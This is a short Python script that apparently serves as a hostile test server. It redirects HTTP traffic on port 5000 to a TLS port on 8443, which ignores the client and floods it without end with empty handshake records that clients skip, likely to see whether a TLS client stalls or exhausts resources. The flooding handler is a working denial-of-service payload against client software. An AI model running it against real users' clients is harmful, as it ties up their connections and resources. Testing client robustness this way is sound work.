"""Sends messages in the handshake that every client passes over, as fast as it can."""
import socket
import threading
import time

OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
MOVED = b"HTTP/1.1 308 X\r\nLocation: https://localhost:8443%s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
HELLO = (
    b"\x02\0\0\x4d\x03\x03" + bytes(32) + b"\x20" + bytes(32) + b"\xc0\x2f\0"
    b"\0\x05\xff\x01\0\x01\0"
)


def record(payload):
    return b"\x16\x03\x03" + len(payload).to_bytes(2, "big") + payload


def plain(connection):
    path = connection.recv(65536).split(b" ")[1]
    connection.sendall(OK if path == b"/health" else MOVED % path)


def secure(connection):
    connection.recv(65536)
    flood = record(b"\0\0\0\0") * 5000
    while True:
        connection.sendall(flood)


def serve(connection, answer):
    try:
        answer(connection)
    except (OSError, IndexError):
        pass
    finally:
        connection.close()


def listen(port, answer):
    listener = socket.create_server(("0.0.0.0", port), backlog=100)
    while True:
        threading.Thread(target=serve, args=(listener.accept()[0], answer), daemon=True).start()


threading.Thread(target=listen, args=(8443, secure), daemon=True).start()
listen(5000, plain)
